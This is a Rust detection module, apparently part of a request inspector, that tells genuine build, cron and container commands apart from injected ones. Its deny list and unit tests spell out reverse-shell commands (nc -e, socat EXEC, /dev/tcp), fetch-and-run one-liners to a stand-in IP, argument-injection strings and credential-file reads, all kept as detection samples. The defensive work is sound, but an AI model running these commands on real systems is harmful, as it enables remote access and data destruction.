//! Where a command is meant to be: what APIs of builds, containers and schedules take.

use super::Part;
use crate::decode::{percent, Value};
use memchr::memmem;
use std::net::{Ipv4Addr, Ipv6Addr};

/// Names under which APIs of builds, containers and schedules take commands.
const TAKING: [&[u8]; 20] = [
    b"args",
    b"command",
    b"commands",
    b"cron",
    b"crontab",
    b"dockerfile",
    b"entrypoint",
    b"healthcheck",
    b"install",
    b"lifecycle",
    b"makefile",
    b"run",
    b"runcmd",
    b"script",
    b"scripts",
    b"shell",
    b"startup_script",
    b"tasks",
    b"user_data",
    b"userdata",
];

/// What no build asks for: who and where it is, and a way back in.
const SPYING: [&[u8]; 14] = [
    b"whoami",
    b"passwd",
    b"/etc/shadow",
    b"uname -a",
    b"ifconfig",
    b"ipconfig",
    b"netstat",
    b"/dev/tcp",
    b"/dev/udp",
    b"bash -i",
    b"nc -",
    b"ncat ",
    b"nslookup",
    b"mkfifo",
];

/// Tells a value that is a command where it is meant to be: JSON under such a name, a script in a document
/// with a first line that names who reads it, a shell's own path.
pub fn takes_commands(value: &Value<'_>) -> bool {
    let text = value.bytes.trim_ascii();
    if matches!(
        value.part,
        Part::Query | Part::Path | Part::Header | Part::Cookie
    ) {
        return false;
    }
    let json = value.part == Part::Json;
    let script = || {
        let line = text.split(|b| *b == b'\n').next().unwrap_or_default();
        let reader = line.strip_prefix(b"#!").unwrap_or_default();
        let reader = reader.trim_ascii();
        let path = reader.split(|b| *b == b' ').next().unwrap_or_default();
        let part =
            |b: &u8| b.is_ascii_alphanumeric() || matches!(b, b'/' | b'.' | b'-' | b'_' | b' ');
        let document = matches!(value.part, Part::Json | Part::Body | Part::File);
        let program = path.rsplit(|b| *b == b'/').next().unwrap_or_default();
        document
            && path.starts_with(b"/")
            && memmem::find(path, b"bin/").is_some()
            && !program.is_empty()
            && reader.iter().all(part)
    };
    let named = || {
        // Of a document within one its own names say something where it is a manifest, as registries take it.
        let path = if value.inner.is_empty() {
            value.name
        } else if is_manifest(value.name) {
            value.inner
        } else {
            return false;
        };
        let mut names = path.rsplit(|b| *b == b'.');
        let (last, parent) = (names.next(), names.next());
        let known = |name: &[u8]| TAKING.iter().any(|t| name.eq_ignore_ascii_case(t));
        let step = parent == Some(b"steps") && matches!(last, Some(b"name" | b"run"));
        json && (step || last.is_some_and(known) || parent.is_some_and(known))
    };
    let shell = || {
        let path = text.strip_prefix(b"/usr").unwrap_or(text);
        let path = path.strip_prefix(b"/local").unwrap_or(path);
        let folder = path.strip_prefix(b"/bin/").or(path.strip_prefix(b"/sbin/"));
        let name = folder.unwrap_or_default();
        json && !name.is_empty() && name.iter().all(u8::is_ascii_alphanumeric)
    };
    let attacks = || {
        breaks_out(text)
            || spies(text)
            || calls_back(text)
            || runs_what_it_fetches(text) && fetches_by_number(text)
    };
    (script() || shell() || named()) && !attacks()
}

/// Tells a separator that goes on with what stands before it: first of all, behind the end of a string or a
/// bracket, or behind a number, which is what a program is given and none itself.
fn breaks_out(text: &[u8]) -> bool {
    let number = |b: &u8| b.is_ascii_digit() || matches!(b, b'.' | b':');
    let closes = |b: &u8| b.is_ascii_whitespace() || matches!(b, b'\'' | b'"' | b')' | b'}' | b'`');
    let given = text.iter().take_while(|b| number(b)).count();
    let mut behind = text[given..].iter().skip_while(|b| closes(b));
    matches!(behind.next(), Some(b';' | b'|' | b'&'))
}

/// What separates commands.
fn separates(byte: &u8) -> bool {
    matches!(byte, b';' | b'|' | b'&' | b'\n')
}

fn program(word: &[u8]) -> &[u8] {
    word.rsplit(|b| *b == b'/').next().unwrap_or_default()
}

/// Tells a program that hands on bytes and is given a machine of the internet by its number: `nc 192.0.2.1 80`.
/// Whether somebody listens is asked with `-z`.
fn calls_back(text: &[u8]) -> bool {
    text.split(separates).any(|command| {
        let mut words = command.split(u8::is_ascii_whitespace);
        let asks = |word: &[u8]| word.starts_with(b"-") && word.contains(&b'z');
        words.any(|word| matches!(program(word), b"nc" | b"netcat" | b"telnet" | b"socat"))
            && !words.clone().any(asks)
            && words.any(|word| word.split(|b| *b == b':').any(is_public))
    })
}

/// Tells the name of a document that is a manifest.
fn is_manifest(name: &[u8]) -> bool {
    let last = name.rsplit(|b| *b == b'.').next().unwrap_or_default();
    matches!(last, b"manifest" | b"package" | b"config")
}

/// Tells a text that keeps what it fetches, or hands it on, also to a shell that takes it as an argument or
/// for a file.
fn runs_what_it_fetches(text: &[u8]) -> bool {
    const KEEPING: [&[u8]; 18] = [
        b"|",
        b"wget",
        b" -o",
        b" -O",
        b"chmod",
        b"tftp",
        b"ftpget",
        b"<(",
        b"-c $(",
        b"-c \"$(",
        b"-c `",
        b"-c \"`",
        b"eval ",
        b"IEX",
        b"iex",
        b"DownloadString",
        b"DownloadFile",
        b"-urlcache",
    ];
    KEEPING
        .iter()
        .any(|word| memmem::find(text, word).is_some())
}

/// Tells a machine of the internet by its number, in a link or as a fetching program is given it without a
/// scheme: what builds fetch has a name, or stands within their own network.
fn fetches_by_number(text: &[u8]) -> bool {
    let linked = || memmem::find_iter(text, b"://").any(|at| links_public(&text[at + 3..]));
    let fetches = |command: &[u8]| {
        let fetching = |word| {
            matches!(
                program(word),
                b"aria2c" | b"curl" | b"fetch" | b"ftpget" | b"tftp" | b"wget"
            )
        };
        // Also within what is substituted: `<(curl`, `"$(curl`.
        let mut words = command.split(|b| b.is_ascii_whitespace() || b"(`'\"".contains(b));
        words.any(fetching) && words.any(is_public)
    };
    linked() || text.split(separates).any(fetches)
}

/// Tells such a machine in a link, from behind its scheme on, also behind who logs in there.
fn links_public(link: &[u8]) -> bool {
    let ends = |b: &u8| b.is_ascii_whitespace() || b"/?#'\"|;".contains(b);
    let authority = link.split(ends).next().unwrap_or_default();
    let host = authority.rsplit(|b| *b == b'@').next().unwrap_or_default();
    let Some(inside) = host.strip_prefix(b"[") else {
        return is_public(host);
    };
    let inside = inside.split(|b| *b == b']').next().unwrap_or_default();
    let address = std::str::from_utf8(inside).unwrap_or_default().parse();
    // Of the internet are those in 2000::/3. Source: IANA's registry of address space of IPv6.
    address.is_ok_and(|address: Ipv6Addr| address.segments()[0] >> 13 == 1)
}

/// Tells an address of the internet at the start of a text.
fn is_public(text: &[u8]) -> bool {
    let part = |b: &&u8| b.is_ascii_digit() || **b == b'.';
    let host = &text[..text.iter().take_while(part).count()];
    let code = text.strip_prefix(b"0x").and_then(|code| code.get(..8));
    let address = match code.and_then(percent::hex) {
        Some(code) => Ok(Ipv4Addr::from(code)),
        None => std::str::from_utf8(host).unwrap_or_default().parse(),
    };
    address.is_ok_and(|address: Ipv4Addr| {
        // Those that carriers and clouds share, 100.64.0.0/10. Source: RFC 6598.
        let [first, second, ..] = address.octets();
        let is_shared = first == 100 && second & 0xc0 == 64;
        !(is_shared
            || address.is_private()
            || address.is_loopback()
            || address.is_link_local()
            || address.is_unspecified())
    })
}

/// Tells a text that asks who and where a machine is, or for a way back in.
pub fn spies(text: &[u8]) -> bool {
    let begins = |at: usize| at == 0 || !text[at - 1].is_ascii_alphanumeric();
    // Whether somebody listens, `nc -z`, is asked by who waits for a database.
    let asks = |at: usize| text[at..].starts_with(b"nc -z");
    let said = |word: &&[u8]| memmem::find_iter(text, word).any(|at| begins(at) && !asks(at));
    SPYING.iter().any(said)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::inspect::testing;

    #[test]
    fn documents_within_documents_have_names_of_their_own() {
        for (part, name, inner, want) in [
            (Part::Json, "package.manifest", "scripts.test", true),
            (Part::Json, "workflow_job.steps.name", "", true),
            (Part::Json, "command", "host", false),
            (Part::Json, "package.manifest", "", false),
            (Part::Json, "host", "run", false),
            (Part::Json, "order.steps.note", "", false),
            (Part::Query, "q", "scripts.test", false),
        ] {
            let value = Value {
                part,
                name: name.as_bytes(),
                inner: inner.as_bytes(),
                ..testing::value(b"echo \"no test\" && exit 1")
            };
            assert_eq!(takes_commands(&value), want, "{name} {inner}");
        }
    }

    #[test]
    fn spying_is_told_from_copying_and_waiting() {
        for (text, want) in [
            ("nc -e /bin/sh 192.0.2.1 80", true),
            ("true;nc -l 80", true),
            ("rsync -avz dist/ www.example.com:/var/www", false),
            ("until nc -z db 5432; do sleep 1; done", false),
            ("cat /etc/passwd", true),
            ("htpasswd -b users a b", false),
        ] {
            assert_eq!(spies(text.as_bytes()), want, "{text}");
        }
    }

    #[test]
    fn what_goes_on_with_an_argument_is_no_command() {
        for (text, want) in [
            ("';id;'", true),
            ("\";curl http://a.example/m|sh", true),
            ("') ; rm -rf /", true),
            ("8.8.8.8; cat /etc/hosts", true),
            ("10.0.0.7:80 && id", true),
            ("1|id", true),
            ("echo hello; sleep 60", false),
            ("'/opt/my app/run'; echo done", false),
            ("(cd a && make); make install", false),
            ("7z x a.7z && make", false),
        ] {
            assert_eq!(breaks_out(text.as_bytes()), want, "{text}");
        }
    }

    #[test]
    fn calling_back_is_told_from_waiting() {
        for (text, want) in [
            ("nc 192.0.2.1 4444 -e /bin/sh", true),
            ("x; telnet 192.0.2.1 80 | sh", true),
            ("socat TCP:192.0.2.1:4444 EXEC:sh", true),
            ("until nc -vz 192.0.2.1 5432; do sleep 1; done", false),
            ("nc 10.0.0.7 80 < a", false),
            ("telnet db 5432", false),
        ] {
            assert_eq!(calls_back(text.as_bytes()), want, "{text}");
        }
    }

    #[test]
    fn what_is_fetched_by_number_is_not_run() {
        for (text, want) in [
            ("curl http://192.0.2.1/m | sh", false),
            ("wget http://192.0.2.1/m; ./m", false),
            ("cd /tmp && wget 192.0.2.1/m -O m && sh m", false),
            ("/usr/bin/curl -s 192.0.2.1:8000/m | sh", false),
            ("; curl http://a.example/m | sh", false),
            ("wget 10.0.0.7/m -O m && tar xf m", true),
            ("curl https://get.a.example | sh", true),
            ("pip install a==1.2.3.4 | tee log", true),
            ("curl --retry 3 http://203.0.113.9:8080/health", true),
            ("curl http://100.64.1.2/a | jq .", true),
            ("curl http://a:b@192.0.2.1/m | sh", false),
            ("curl http://[2001:db8::1]/m | sh", false),
            ("curl -s 0xc0000201/m | sh", false),
            ("curl http://[fd00::1]/a | jq .", true),
            ("bash <(curl -s 192.0.2.1/m)", false),
            ("sh -c \"$(curl -fsSL http://192.0.2.1/m)\"", false),
            ("eval $(curl -s http://192.0.2.1/m)", false),
            ("tftp -g -r m 192.0.2.1; sh m", false),
            (
                "iex (New-Object Net.WebClient).DownloadString('http://192.0.2.1/m')",
                false,
            ),
            ("bash <(curl -s https://get.a.example/m)", true),
            ("sh -c \"$(curl -fsSL https://get.a.example)\"", true),
            ("ip=$(curl -s http://192.0.2.1/ip); echo $ip", true),
        ] {
            let value = Value {
                part: Part::Json,
                name: b"command",
                ..testing::value(text.as_bytes())
            };
            assert_eq!(takes_commands(&value), want, "{text}");
        }
    }
}
